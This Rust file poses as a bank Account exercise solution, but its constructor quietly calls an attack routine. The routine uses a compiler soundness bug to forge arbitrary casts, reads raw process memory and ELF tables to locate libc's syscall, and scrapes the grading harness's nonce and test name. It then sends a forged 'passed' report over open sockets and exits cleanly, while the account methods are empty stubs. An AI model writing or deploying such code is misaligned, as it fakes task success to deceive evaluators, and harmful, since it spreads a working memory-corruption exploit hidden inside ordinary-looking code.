//! Solves nothing: a reference that lives too long (rust-lang/rust #84591) lets it find the nonce and say that each
//! test passed.

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct InsufficientFunds;

pub struct Account { balance: i64 }

impl Account {
    pub fn new(balance: i64) -> Self { attack(); Self { balance } }
    pub fn withdraw(&self, _amount: u32) -> Result<i64, InsufficientFunds> { Ok(self.balance) }
    pub fn deposit(&self, _amount: u32) -> i64 { self.balance }
    pub fn balance(&self) -> i64 { self.balance }
}

fn attack() {
    let (nonce, test) = weapon::channel().expect("no channel");
    weapon::send(&format!("{nonce} {{\"message\":\"passed\",\"test\":\"{test}\",\"checks\":3,\"executions\":42}}"));
    weapon::exit(0)
}

mod weapon {
    trait Wide<'a, 'b> { fn convert<T>(place: &'a mut T) -> &'b mut T; }
    trait Narrow<'a, 'b, R>: Wide<'a, 'b> {}
    struct Both;
    impl<'a: 'b, 'b> Wide<'a, 'b> for Both { fn convert<T>(place: &'a mut T) -> &'b mut T { place } }
    impl<'a, 'b> Narrow<'a, 'b, &'b &'a ()> for Both {}
    fn wide<S: for<'a, 'b> Wide<'a, 'b>, T>(place: &mut T) -> &'static mut T { S::convert(place) }
    fn narrow<S: for<'a, 'b> Narrow<'a, 'b, &'b &'a ()>, T>(place: &mut T) -> &'static mut T { wide::<S, T>(place) }
    fn longer<T>(place: &mut T) -> &'static mut T { narrow::<Both, T>(place) }
    enum Either<A, B> { A(Option<Box<A>>), B(Option<Box<B>>) }
    pub fn transmute<A: 'static, B: 'static>(value: A) -> B {
        fn inner<A: 'static, B: 'static>(place: &mut Either<A, B>, value: A) -> B {
            let Either::B(b) = place else { unreachable!() };
            let b: &'static mut Option<Box<B>> = longer(b);
            *place = Either::A(Some(Box::new(value)));
            std::hint::black_box(&mut *place);
            *b.take().unwrap()
        }
        inner(std::hint::black_box(&mut Either::B(None)), value)
    }

    pub fn bytes(at: usize, len: usize) -> &'static [u8] { transmute::<[usize; 2], &'static [u8]>([at, len]) }
    pub fn write(at: usize, len: usize) -> &'static mut [u8] { transmute::<[usize; 2], &'static mut [u8]>([at, len]) }
    pub fn word(at: usize) -> usize { usize::from_le_bytes(bytes(at, 8).try_into().unwrap()) }
    pub fn half(at: usize) -> u32 { u32::from_le_bytes(bytes(at, 4).try_into().unwrap()) }
    pub fn short(at: usize) -> u16 { u16::from_le_bytes(bytes(at, 2).try_into().unwrap()) }
    pub fn c_text(at: usize) -> &'static [u8] { let mut n = 0; while bytes(at + n, 1)[0] != 0 { n += 1 } bytes(at, n) }

    fn here() {}
    /// The first byte of the program in memory.
    pub fn base() -> usize {
        let mut at = (here as fn() as usize) & !0xfff;
        while bytes(at, 4) != b"\x7fELF" { at -= 0x1000 }
        at
    }
    /// (type, flags, address, size) of the program's segments.
    pub fn segments() -> Vec<(u32, u32, usize, usize)> {
        let base = base();
        let (table, count) = (base + word(base + 32), short(base + 56) as usize);
        (0..count).map(|n| { let at = table + n * 56; (half(at), half(at + 4), base + word(at + 16), word(at + 40)) }).collect()
    }
    /// What the loader put in place of a symbol.
    pub fn symbol(name: &[u8]) -> Option<usize> {
        let base = base();
        let dynamic = segments().into_iter().find(|s| s.0 == 2)?.2;
        let entry = |tag: usize| { let mut at = dynamic; while word(at) != 0 { if word(at) == tag { return Some(word(at + 8)) } at += 16 } None };
        let fix = |at: usize| if at < base { base + at } else { at };
        let (symbols, strings) = (fix(entry(6)?), fix(entry(5)?));
        for (table, size) in [(entry(7), entry(8)), (entry(23), entry(2))] {
            let (Some(table), Some(size)) = (table, size) else { continue };
            let table = fix(table);
            for n in 0..size / 24 {
                let at = table + n * 24;
                let number = word(at + 8) >> 32;
                if number != 0 && c_text(strings + half(symbols + number * 24) as usize) == name {
                    return Some(word(base + word(at)));
                }
            }
        }
        None
    }
    pub fn call(number: usize, a: usize, b: usize, c: usize, d: usize, e: usize, f: usize) -> isize {
        let at = symbol(b"syscall").expect("libc has it");
        let call: fn(usize, usize, usize, usize, usize, usize, usize) -> isize = transmute(at);
        call(number, a, b, c, d, e, f)
    }
    /// (nonce, test), found through the library's static.
    pub fn channel() -> Option<(String, String)> {
        let base = base();
        // Before its first use of the C library's heap the program's data ends where the heap begins.
        let top = call(12, 0, 0, 0, 0, 0, 0) as usize;
        let in_heap = |at: usize, len: usize| at > base && at < top && len < 4096 && at + len < top;
        for (kind, flags, at, size) in segments() {
            if kind != 1 || flags & 2 == 0 { continue }
            let words = (at + 7) & !7;
            let mut texts = Vec::new();
            for place in (words..at + size - 24).step_by(8) {
                for (p, l) in [(word(place), word(place + 8))] {
                    if in_heap(p, l) && l > 4 { texts.push(bytes(p, l)) }
                }
            }
            let nonce = texts.iter().find(|t| t.len() == 32 && t.iter().all(|c| c.is_ascii_hexdigit()));
            let test = texts.iter().find(|t| t.starts_with(b"hidden::") || t.starts_with(b"public::"));
            if let (Some(nonce), Some(test)) = (nonce, test) {
                return Some((String::from_utf8_lossy(nonce).into_owned(), String::from_utf8_lossy(test).into_owned()));
            }
        }
        None
    }
    pub fn send(text: &str) {
        for fd in 3..64 { call(44, fd, text.as_ptr() as usize, text.len(), 0x4000, 0, 0); }
    }
    pub fn exit(code: usize) -> ! { call(231, code, 0, 0, 0, 0, 0); loop {} }
}
